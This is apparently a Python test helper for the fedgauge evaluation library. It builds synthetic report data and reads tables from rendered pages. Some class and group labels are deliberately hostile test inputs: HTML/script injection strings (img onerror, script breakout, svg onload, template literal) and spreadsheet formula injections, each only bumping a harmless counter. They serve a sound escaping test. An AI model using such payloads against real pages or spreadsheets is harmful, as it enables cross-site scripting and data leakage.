"""Results of every kind that a page is made of, and what the library says where a page shows it."""

import numpy as np
from cases import CASES, clients

import fedgauge as fg
from fedgauge.metrics.estimate import show

LONG = "people who were asked and did not answer, whatever the reason was"
# Names are anybody's text. Each of these would do harm in a page, a script or a spreadsheet.
_RUN = "window.ran = (window.ran || 0) + 1"
HOSTILE_CLASSES = (
    f'<img src=x onerror="{_RUN}">',
    f"</script><script>{_RUN}</script>",
    '=HYPERLINK("https://fedgauge.invalid/?"&A1)',
    "\uff1dHYPERLINK(1)",
)
HOSTILE_GROUPS = (
    f"\"'><svg onload='{_RUN}'>",
    "\u05d0\u05d1\u05d2 ${" + _RUN + "}",
    "@SUM(" + "n" * 192 + ")",
)


def _rows(seed, rows=400):
    rng = np.random.default_rng(seed)
    positive = rng.random(rows) < 0.3
    return rng, positive, np.clip(rng.normal(0.35 + 0.25 * positive, 0.2), 0, 1)


def _classes(seed):
    rng, _, _ = _rows(seed)
    labels = rng.integers(0, 3, 400)
    scores = np.exp(rng.normal(size=(400, 3)) + 1.5 * np.eye(3)[labels])
    names = np.array(["cat", "dog", "<b>owl</b>"])
    return fg.Examples(names[labels], scores / scores.sum(axis=1, keepdims=True))


def _groups(seed):
    rng, positive, scores = _rows(seed)
    return fg.Examples(positive, scores, group=rng.choice(["women", "men", LONG], 400))


def _few(seed):
    rng, positive, scores = _rows(seed)
    group = np.where(rng.random(400) < 0.02, "few", rng.choice(["women", "men"], 400))
    return fg.Examples(positive, scores, group=group)


def _joined():
    task = fg.BinaryTask(groups={"sex": ["women", "men", "few"]})
    plan = fg.EvaluationPlan.for_histogram(
        fg.Axis.uniform(32), fg.Cohort(3, 1), task=task, min_cell=20
    )
    return fg.evaluate(_three(_few), plan)


def _hostile(seed):
    rng, _, _ = _rows(seed)
    classes = len(HOSTILE_CLASSES)
    labels = rng.integers(0, classes, 400)
    scores = np.exp(rng.normal(size=(400, classes)) + 1.5 * np.eye(classes)[labels])
    scores /= scores.sum(axis=1, keepdims=True)
    group = rng.choice(HOSTILE_GROUPS, 400)
    return fg.Examples(np.array(HOSTILE_CLASSES)[labels], scores, group=group)


def _models(seed):
    rng, positive, scores = _rows(seed)
    return fg.Examples(positive, {"new": scores, "old": rng.permutation(scores)})


def _parties():
    _, positive, scores = _rows(1)
    names = [f"row {place}" for place in range(len(scores))]
    labels = dict(zip(names, positive.astype(int).tolist(), strict=True))
    halves = {"a": names[:200], "b": names[200:]}
    return fg.evaluate_vertical(
        dict(zip(names, scores.tolist(), strict=True)),
        {party: {name: labels[name] for name in held} for party, held in halves.items()},
        privacy=fg.DistributedDP(4.0, unit="label", neighbours="flip"),
        seed=1,
    )


def _three(make):
    return {site: make(place) for place, site in enumerate("abc")}


REPORTS = {
    "exact sum": lambda: fg.evaluate(clients(), axis=fg.Axis.uniform(256)),
    "distributed noise": CASES["polya-tree"],
    "local reports": CASES["local-oue"],
    "classes": lambda: fg.evaluate(
        _three(_classes),
        task=fg.MulticlassTask(labels=["cat", "dog", "<b>owl</b>"], also=["confusion"]),
        axis=fg.Axis.uniform(32),
    ),
    "groups": lambda: fg.evaluate(
        _three(_groups), groups=["women", "men", LONG], axis=fg.Axis.uniform(32)
    ),
    "groups under noise": lambda: fg.evaluate(
        _three(_few),
        groups=["women", "men", "few"],
        privacy=fg.DistributedDP(2.0),
        axis=fg.Axis.uniform(32, outside="clip"),
        seed=1,
    ),
    "small groups": _joined,
    "models": lambda: fg.evaluate(_three(_models), models=["new", "old"], axis=fg.Axis.uniform(32)),
    "hostile": lambda: fg.evaluate(
        _three(_hostile),
        task=fg.MulticlassTask(
            labels=HOSTILE_CLASSES, groups={"of": HOSTILE_GROUPS}, also=["confusion"]
        ),
        axis=fg.Axis.uniform(16),
    ),
    "label parties": _parties,
    "no signal": CASES["no-signal"],
    "one class": CASES["one-class"],
}
# Everything that is folded opened.
UNFOLD = "() => document.querySelectorAll('details').forEach(each => each.open = true)"
_TABLES = """() => [...document.querySelectorAll("table[data-csv]")]
  .filter(table => table.checkVisibility())
  .map(table => [table.dataset.csv, table.caption.textContent,
    [...table.rows].map(row => [...row.cells].map(cell => cell.textContent))])"""


def tables(page):
    """Every table that is shown: name of its file, caption, rows with the head."""
    return page.evaluate(_TABLES)


# Pages that are made as that of "groups", but for what is in them: not all is done with them too.
AS_GROUPS = ("groups under noise", "small groups", "hostile")


def at(result, label):
    """What the library says at the threshold that a page calls `label`."""
    ends = {"above all scores": np.inf, "below all scores": -np.inf}
    if label in ends:
        return result.at_threshold(ends[label])
    edges = result.pooled.axis.thresholds
    return result.at_threshold(float(edges[np.abs(edges - float(label)).argmin()]))


def told(holder, metric):
    """A metric as the page tells it: value and interval, in the library's digits."""
    try:
        estimate = getattr(holder, metric)
    except fg.UndefinedMetric:
        return ["undefined", ""]
    interval = estimate.interval
    return [_read(estimate.value), "" if interval is None else " to ".join(map(_read, interval))]


def phrase(estimate):
    """A number with its interval, as one cell has it."""
    ends = estimate.interval
    return show(estimate.value) + (f" ({show(ends.low)} to {show(ends.high)})" if ends else "")


def parts(page, result):
    """Each slice of a result, when the page shows it."""
    for place, each in enumerate(result.slices):
        if len(result.slices) > 1:
            page.select_option("#part", index=place)
        yield each


def silence(part):
    """Why there are no curves of a slice; None where there are."""
    try:
        part.roc_curve()
    except fg.UndefinedMetric as error:
        return str(error)
    return None


def _read(number):
    return show(number).replace("-0.0000", "0.0000")
